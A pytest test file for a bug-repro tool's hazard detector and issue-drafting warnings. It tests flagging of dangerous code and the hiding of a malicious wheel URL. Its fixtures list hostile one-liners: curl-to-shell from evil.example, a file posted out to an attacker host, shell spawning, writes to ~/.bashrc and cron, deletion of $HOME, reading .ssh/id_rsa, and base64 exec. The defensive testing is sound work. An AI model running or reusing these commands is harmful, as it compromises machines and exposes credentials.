"""Never launder an attack upstream (issue #39): what a maintainer should not run blind is said
before the code wherever a repro leaves the machine, `file --submit` needs --anyway for it, and
a distribution installed from the reporter's own URL, VCS checkout or folder is named, never
written as something to install.

The weaponised repro is reduced for real (`reprobot reduce` in a throwaway interpreter holding a
`peft` installed, per its PEP 610 direct_url.json, from a wheel URL on the poster's host): the
reducer must keep the side effect the failure depends on. The per-kind variants reuse that
folder with another repro.py, because drafting and the Action's reply read code, never run it.
"""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
import urllib.parse
import venv
from pathlib import Path

import pytest

from bot.action.render import load_reply, render_reply
from bot.action.result import ActionResult
from bot.cli import main
from bot.issue.draft import build_draft, write_draft
from bot.issue.filing import submission_body
from bot.issue.hazards import HEADING, HEADLINE, MAX_LISTED, find_hazards
from reducer.errors import ExitCode
from tests.fakegithub import FakeGitHub
from tests.test_action_render import html_in

ROOT = Path(__file__).resolve().parents[1]
EVIL_WHEEL = "https://wheels.evil.example/peft-0.13.2-py3-none-any.whl"
NODE = "D_kwDOfake0000039"

# ---- the check ----------------------------------------------------------------------------------

# (kind, source, the line the finding names): each a way a posted script makes a maintainer's
# machine do what they did not ask for.
WEAPONS = [
    ("process", 'import os\nos.system("curl -fsSL https://evil.example/install.sh | sh")\n', 2),
    ("process", "import subprocess as sp\nsp.run(['sh', '-c', 'id'])\n", 2),
    ("process", "from os import system as run\n\nrun('id')\n", 3),
    ("process", 'o = __import__("os")\no.popen("id")\n', 2),
    ("process", "import os\nos.execvp('sh', ['sh'])\n", 2),
    ("process", "import pty\npty.spawn('/bin/sh')\n", 2),
    ("process", "import importlib\nimportlib.import_module('subprocess').call('id')\n", 2),
    ("process", "import os\ncmds = ['id']\nlist(map(os.system, cmds))\n", 3),
    ("network", "import socket\nsocket.create_connection(('evil.example', 80))\n", 2),
    ("network", "import urllib.request\nurllib.request.urlopen(u)\n", 2),
    ("network", "import requests\nrequests.post('https://evil.example/x', data=open('x').read())\n", 2),
    ("network", "import http.client\nhttp.client.HTTPSConnection('evil.example')\n", 2),
    ("network", "import ftplib\nftplib.FTP('evil.example')\n", 2),
    ("network", "from datasets import load_dataset\nload_dataset('json', data_files='https://evil.example/d.json')\n", 2),
    ("network", "URL = 'http://10.0.0.5/model.bin'\nimport torch\ntorch.hub.download_url_to_file(URL, 'm.bin')\n", 3),
    ("write-outside", 'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("alias sudo=x")\n', 2),
    ("write-outside", "from pathlib import Path\n(Path.home() / '.profile').write_text('x')\n", 2),
    ("write-outside", "open('/etc/cron.d/job', 'w').write('* * * * * root sh')\n", 1),
    ("write-outside", "import os, shutil\nshutil.rmtree(os.environ['HOME'])\n", 2),
    ("write-outside", "import site, os\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w')\n", 2),
    ("write-outside", "import transformers, os\nopen(os.path.join(os.path.dirname(transformers.__file__), 'x.py'), 'a')\n", 2),
    ("write-outside", "import torch\ntorch.save({}, '/root/.cache/x.pt')\n", 2),
    ("write-outside", "key = open('.ssh/id_rsa').read()\n", 1),
    ("dynamic-code", "import base64\nexec(base64.b64decode(blob))\n", 2),
    ("dynamic-code", "eval(input())\n", 1),
    ("dynamic-code", "code = compile(src, 'x', 'exec')\n", 1),
    ("dynamic-code", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", 2),
    ("unsafe-load", "import pickle\npickle.load(open('a.pkl', 'rb'))\n", 2),
    ("unsafe-load", "import torch\ntorch.load('a.pt', weights_only=False)\n", 2),
    ("unsafe-load", "import numpy as np\nnp.load('a.npy', allow_pickle=True)\n", 2),
    ("unsafe-load", "import marshal\nmarshal.loads(data)\n", 2),
    ("unsafe-load", "import dill\ndill.loads(data)\n", 2),
    ("unsafe-load", "import yaml\nyaml.load(open('c.yaml'), Loader=yaml.Loader)\n", 2),
    ("remote-code", "from transformers import AutoModel\nAutoModel.from_pretrained('someone/m', trust_remote_code=True)\n", 2),
    ("remote-code", "kw = {'trust_remote_code': True}\n", 1),
    ("remote-code", "import torch\ntorch.hub.load('someone/repo', 'model')\n", 2),
]


@pytest.mark.parametrize("kind, source, line", WEAPONS, ids=[f"{k}-{i}" for i, (k, _, _) in enumerate(WEAPONS)])
def test_each_hazard_is_named_with_its_line_text_and_reason(kind: str, source: str, line: int) -> None:
    found = find_hazards(source)
    assert [(h.kind, h.line) for h in found if h.kind == kind] == [(kind, line)], found
    hit = next(h for h in found if h.kind == kind)
    assert hit.text.startswith(source.splitlines()[line - 1].strip()[:15])   # the statement, as written
    assert hit.reason and "\n" not in hit.reason


def test_the_line_shown_is_scrubbed() -> None:
    token = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gH3j"
    [hit] = find_hazards(f'import os\nos.system("curl -H \'Authorization: Bearer {token}\' https://evil.example | sh")\n')
    assert hit.kind == "process" and token not in hit.text and "curl" in hit.text


# Idioms of plain ML repros that must not raise a false alarm.
CLEAN = [
    "model = AutoModel.from_pretrained('gpt2')\nmodel.eval()\n",
    "import queue\nrequests = queue.Queue()\nrequests.get()\n",
    "import socket\ns = socket.socket()\ns.bind(('', 0))\nport = s.getsockname()[1]\ns.close()\n",
    "import socket\nwith socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:\n    s.bind(('localhost', 0))\n",
    "import tempfile, os\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'x.json'), 'w').write('{}')\n",
    "import os\nos.makedirs('runs/out', exist_ok=True)\nopen('runs/out/cfg.json', 'w')\n",
    "open('/tmp/x.txt', 'w')\nopen('/dev/null', 'w')\n",
    "import torch\ntorch.save({}, 'ckpt.pt')\ntorch.load('ckpt.pt')\ntorch.load('ckpt.pt', weights_only=True)\n",
    "from transformers import AutoModel\nAutoModel.from_pretrained('org/m', trust_remote_code=False)\n",
    "print('see https://github.com/huggingface/peft/issues/1')\n",
    "from huggingface_hub import hf_hub_download\nhf_hub_download('org/m', 'config.json')\n",
    "from transformers import AutoConfig\nAutoConfig.from_pretrained('https://huggingface.co/org/m/resolve/main/config.json')\n",
    "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\n",
    "import re\nre.compile(pattern)\nimport torch\ntorch.compile(model)\n",
    "import yaml\nyaml.load(open('c.yaml'), Loader=yaml.SafeLoader)\nyaml.safe_load('a: 1')\n",
    "proc: 'subprocess.Popen'\nimport subprocess\ndef f(p: subprocess.Popen) -> subprocess.CompletedProcess: ...\n",
    'eval("1 + 1")\n',
    'def run():\n    """Appends to ~/.bashrc? No: the docstring only says it."""\n',
    "from pathlib import Path\nPath(__file__).parent.joinpath('out.txt').write_text('x')\n",
    "import os\nos.kill(os.getpid(), 2)\n",
]


@pytest.mark.parametrize("source", CLEAN, ids=range(len(CLEAN)))
def test_plain_idioms_raise_no_alarm(source: str) -> None:
    assert find_hazards(source) == []


def test_the_bundled_repros_raise_no_alarm() -> None:
    """Every minimal repro of the bench and every example script a user would post: no findings
    (repro_matrix.py is a harness that runs subprocesses on purpose, and is named)."""
    files = sorted(ROOT.glob("bench/mlfloor/*/*.floor.py")) + sorted(
        p for p in ROOT.glob("examples/*/*.py") if p.name not in {"repro_matrix.py", "slim_wheel.py"})
    assert len(files) >= 30
    for path in files:
        assert find_hazards(path.read_text(encoding="utf-8")) == [], path.relative_to(ROOT)
    assert {h.kind for h in find_hazards((ROOT / "examples/gpu_gemma4_bnb/repro_matrix.py").read_text())} == {"process"}


def test_hostile_input_gives_one_finding_never_a_traceback() -> None:
    """A 6,000-term expression is deeper than the parser recurses: one `unchecked` finding. Many
    findings are listed up to a cap, then counted; a large script is read in linear time."""
    [deep] = find_hazards("x = 1" + " + 1" * 6000 + "\n")
    assert deep.kind == "unchecked" and "read all of it" in deep.reason
    assert find_hazards("x = (\n") == []   # does not parse, so cannot run
    many = "import os\n" + "os.system('id')\n" * 3000
    found = find_hazards(many)
    assert len(found) == MAX_LISTED + 1 and found[-1].kind == "more" and "2960 more" in found[-1].reason
    big = "import os\n" + "".join(f"x{i} = os.path.join('a', str({i}))\nos.makedirs(x{i})\n" for i in range(4000))
    started = time.monotonic()
    assert find_hazards(big) == []
    assert time.monotonic() - started < 60   # generous: about a second on an idle laptop


# ---- a weaponised repro, reduced for real -------------------------------------------------------

SCRIPT = '''\
import os
import sys

import peft

SETTINGS = {"rank": 8, "alpha": 16}


def describe(settings):
    return ", ".join(f"{k}={v}" for k, v in settings.items())


def prepare():
    # the poster's "setup": writes the adapter config through the shell
    os.system("printf '{8: 16}' > adapter_config.json")


def main():
    print("python", sys.version_info[:2], describe(SETTINGS))
    prepare()
    peft.load_adapter_config("adapter_config.json")


main()
'''


def _fake_peft_from_a_url(prefix: Path) -> None:
    """peft 0.13.2 in a venv's site-packages as pip leaves a wheel installed from a URL: its
    dist-info holds PEP 610's direct_url.json with archive_info."""
    site = next((prefix / "lib").glob("python3*/site-packages"))
    (site / "peft").mkdir()
    (site / "peft" / "__init__.py").write_text(
        'import json\n__version__ = "0.13.2"\n\n\ndef load_adapter_config(path):\n'
        '    with open(path) as fh:\n        return json.loads(fh.read())\n')
    info = site / "peft-0.13.2.dist-info"
    info.mkdir()
    (info / "METADATA").write_text("Metadata-Version: 2.1\nName: peft\nVersion: 0.13.2\n")
    (info / "INSTALLER").write_text("pip\n")
    (info / "top_level.txt").write_text("peft\n")
    (info / "RECORD").write_text("peft/__init__.py,,\npeft-0.13.2.dist-info/METADATA,,\npeft-0.13.2.dist-info/RECORD,,\n")
    (info / "direct_url.json").write_text(json.dumps({"url": EVIL_WHEEL, "archive_info": {"hashes": {"sha256": "0" * 64}}}))


@pytest.fixture(scope="module")
def weaponised(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """(the reduced folder, the interpreter it failed in)."""
    work = tmp_path_factory.mktemp("weaponised")
    venv.EnvBuilder(with_pip=False).create(work / "venv")
    _fake_peft_from_a_url(work / "venv")
    python = str(work / "venv" / "bin" / "python")
    (work / "setup_job.py").write_text(SCRIPT)
    env = {**os.environ, "PYTHONPATH": str(ROOT), "REPROBOT_OFFLINE": "1", "HOME": str(work / "home")}
    proc = subprocess.run([sys.executable, "-m", "bot", "reduce", "setup_job.py", "--python", python, "--out", "repros",
                           "--max-time", "120"], cwd=work, env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    (folder,) = (work / "repros").iterdir()
    return folder, python


@pytest.fixture
def offline(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("GITHUB_TOKEN", raising=False)
    monkeypatch.setenv("REPROBOT_INDEX_DB", str(tmp_path / "index.db"))
    monkeypatch.setenv("REPROBOT_OFFLINE", "1")


def _copy(weaponised: tuple[Path, str], tmp_path: Path) -> Path:
    return Path(shutil.copytree(weaponised[0], tmp_path / weaponised[0].name))


def _prefilled(url: str) -> dict[str, str]:
    return {k: v[0] for k, v in urllib.parse.parse_qs(urllib.parse.urlsplit(url).query).items()}


def test_the_reducer_keeps_the_side_effect_and_every_draft_opens_with_the_warning(weaponised: tuple[Path, str]) -> None:
    folder, _ = weaponised
    repro = (folder / "repro.py").read_text()
    line = repro.splitlines().index("os.system(\"printf '{8: 16}' > adapter_config.json\")") + 1
    assert "def prepare" not in repro       # reduced: what is left is what the failure needs
    draft = build_draft(folder, "peft")
    body = draft.body
    # the body (after reprobot's own notes, which are not filed) opens with the headline ...
    visible = submission_body(draft)
    assert visible.startswith(f"> [!WARNING]\n> **{HEADLINE}:** it runs a program or a shell command (line {line}). "
                              "The failure needs these lines.")
    # ... and the field that carries the code says it before the code, line by line
    warning = body.index(HEADING)
    assert warning < body.index("```python\nimport os")
    assert f"> - line {line}: `os.system(\"printf '{{8: 16}}' > adapter_config.json\")` — runs a shell command" in body
    assert "the failure needs these lines" in body.lower()
    assert "run it there (after reading the warning above): nothing else is needed" in " ".join(body.split())
    # the pre-filled link opens the form with it
    reproduction = _prefilled(draft.prefill_url().url)["reproduction"]
    assert reproduction.startswith("> [!WARNING]\n> **" + HEADING)


def test_dry_run_says_it_first_and_submit_needs_anyway(weaponised: tuple[Path, str], tmp_path: Path, offline: None,
                                                       fake_github: FakeGitHub, capsys: pytest.CaptureFixture[str]
                                                       ) -> None:
    folder = _copy(weaponised, tmp_path)
    python = weaponised[1]
    assert main(["file", str(folder), "--dry-run", "--python", python]) == 0
    out = " ".join(capsys.readouterr().out.split())
    assert out.index("Do not run this repro blind: it runs a program or a shell command (line") < out.index("issue preview")
    assert "--submit refuses unless --anyway is given" in out
    fake_github.add_repo("huggingface/peft")
    submit = ["file", str(folder), "--submit", "--yes", "--repo", "peft", "--no-search", "--python", python]
    assert main(submit) == ExitCode.UNSAFE == 12
    err = " ".join(capsys.readouterr().err.split())
    assert err.startswith("reprobot: not filed: the repro runs a program or a shell command (line")
    assert "pass --anyway" in err and len(err.splitlines()) == 1
    assert fake_github.requests_to("POST", r"^/repos/huggingface/peft/issues$") == []
    assert main([*submit, "--anyway"]) == 0
    [post] = fake_github.requests_to("POST", r"^/repos/huggingface/peft/issues$")
    filed = post.body["body"]
    assert filed.startswith(f"> [!WARNING]\n> **{HEADLINE}:**") and HEADING in filed
    assert "wheels.evil.example" not in filed


def test_an_edit_that_drops_the_warning_does_not_drop_it_from_the_filed_body(weaponised: tuple[Path, str],
                                                                             tmp_path: Path) -> None:
    folder = _copy(weaponised, tmp_path)
    draft = build_draft(folder, "peft")
    stripped = "\n".join(ln for ln in draft.body.splitlines() if not ln.startswith(">"))
    draft.body = stripped
    sent = submission_body(draft)
    assert sent.startswith("> [!WARNING]\n> **" + HEADING) and "> - line 4: `os.system(" in sent


def test_a_wheel_from_the_posters_host_is_never_an_install_line(weaponised: tuple[Path, str], tmp_path: Path,
                                                                offline: None) -> None:
    """peft came from ``https://wheels.evil.example/…whl``: requirements.lock, requirements.in,
    the draft's install line, its pinned environment and System Info name it (name and version)
    as installed from a private source; no URL, host or `name @` line anywhere."""
    folder, _ = weaponised
    lock = (folder / "requirements.lock").read_text()
    assert "# peft==0.13.2  (installed from a private source: not installable from here)" in lock.splitlines()
    draft = build_draft(folder, "peft")
    for text in (lock, (folder / "requirements.in").read_text(), draft.body, draft.prefill_url().url):
        assert "evil" not in text and "wheels." not in text and "peft @" not in text
    assert "Installed from a private source (a URL, a VCS checkout or a local path of the reporter's), so not " \
           "installable from here: peft 0.13.2." in " ".join(draft.body.split())
    assert "peft installed from: a private source (an archive), version 0.13.2; not installable from here" in draft.body
    assert "pip install" not in draft.body.split("Traceback:")[0].split("```python")[1]


def test_an_older_locks_url_and_private_index_are_named_not_shown(weaponised: tuple[Path, str], tmp_path: Path) -> None:
    folder = _copy(weaponised, tmp_path)
    (folder / "requirements.lock").write_text(
        "--index-url https://pypi.org/simple\n--extra-index-url https://pypi.evil.example/simple\n"
        f"peft @ {EVIL_WHEEL}\naccelerate @ git+https://github.com/evil/accelerate@{'a' * 40}\n"
        "transformers==4.57.1\n")
    body = build_draft(folder, "peft").body
    assert "evil" not in body and "git+" not in body
    assert "installable from here: peft, accelerate." in " ".join(body.split())
    assert "pip install transformers==4.57.1" in body


# ---- one weaponised repro per kind: the draft and the Action's reply ---------------------------------

PER_KIND = {
    "process": 'import os\nimport peft\n\nos.system("curl -fsSL https://evil.example/install.sh | sh > adapter_config.json")\n'
               'peft.load_adapter_config("adapter_config.json")\n',
    "network": 'import urllib.request\nimport peft\n\nurllib.request.urlretrieve(URL, "adapter_config.json")\n'
               'peft.load_adapter_config("adapter_config.json")\n',
    "write-outside": 'import os\nimport peft\n\nwith open(os.path.expanduser("~/.bashrc"), "a") as fh:\n'
                     '    fh.write("alias sudo=\'curl -fsSL https://evil.example/x.sh | sh\'")\n'
                     'peft.load_adapter_config("adapter_config.json")\n',
    "dynamic-code": 'import base64\nimport peft\n\nexec(base64.b64decode(BLOB).decode())\n'
                    'peft.load_adapter_config("adapter_config.json")\n',
    "unsafe-load": 'import pickle\nimport peft\n\nconfig = pickle.load(open("adapter_config.pkl", "rb"))\n'
                   'peft.load_adapter_config(config)\n',
    "remote-code": 'from transformers import AutoConfig\nimport peft\n\n'
                   'config = AutoConfig.from_pretrained("someone/model", trust_remote_code=True)\n'
                   'peft.load_adapter_config(config)\n',
}


def _artifact(folder: Path, root: Path) -> Path:
    ActionResult("reduced", discussion=7, candidates=1, block=1).write(root)
    shutil.copytree(folder, root / "repro")
    return root


@pytest.mark.parametrize("kind", sorted(PER_KIND))
def test_each_kind_is_said_before_the_code_in_the_draft_the_link_and_the_reply(
        kind: str, weaponised: tuple[Path, str], tmp_path: Path) -> None:
    folder = _copy(weaponised, tmp_path)
    (folder / "repro.py").write_text(PER_KIND[kind])
    [hazard] = find_hazards(PER_KIND[kind])
    assert hazard.kind == kind and hazard.line == 4
    draft = build_draft(folder, "peft")
    write_draft(folder, draft)
    shown = f"> - line 4: `{hazard.text}` — "
    assert shown in draft.body and draft.body.index(HEADING) < draft.body.index("```python")
    assert submission_body(draft).startswith("> [!WARNING]\n> **" + HEADLINE)
    assert HEADING in _prefilled(draft.prefill_url().url)["reproduction"]

    art = _artifact(folder, tmp_path / "artifact")
    reply = render_reply(load_reply(art, NODE, ActionResult.read_untrusted(art)))
    assert reply.index(HEADING) < reply.index("```python")          # said before the code
    assert shown in reply and "The failure needs these lines" in reply
    assert set(html_in(reply)) <= {"<details>", "</details>", "<summary>", "</summary>", "<sub>", "</sub>",
                                   f"<!-- reprobot:discussion={NODE} -->"}
    links = [p.split(")")[0] for p in reply.split("](")[1:] if p.startswith("https://github.com/huggingface/peft/issues/new")]
    assert links and HEADING in _prefilled(links[0].replace("%28", "(").replace("%29", ")"))["reproduction"]


def test_the_reply_warns_even_when_the_artifacts_draft_does_not(weaponised: tuple[Path, str], tmp_path: Path) -> None:
    """The artifact is untrusted: publish finds the hazards in the code it shows itself, puts the
    warning on a draft that lacks it, and offers no pre-filled link that would open without it."""
    folder = _copy(weaponised, tmp_path)
    (folder / "draft-peft.md").write_text("### System Info\n\npeft 0.13.2\n\n### Reproduction\n\nrun it\n")
    (folder / "draft-peft.json").write_text(json.dumps({
        "repo": "huggingface/peft", "title": "t", "url_complete": True,
        "url": "https://github.com/huggingface/peft/issues/new?template=bug-report.yml&title=t&reproduction=run%20it"}))
    art = _artifact(folder, tmp_path / "artifact")
    reply = render_reply(load_reply(art, NODE, ActionResult.read_untrusted(art)))
    assert reply.index(HEADING) < reply.index("```python")
    draft_part = reply[reply.index("<details>"):]
    assert draft_part.index(HEADING) < draft_part.index("### System Info")
    assert "issues/new" not in reply
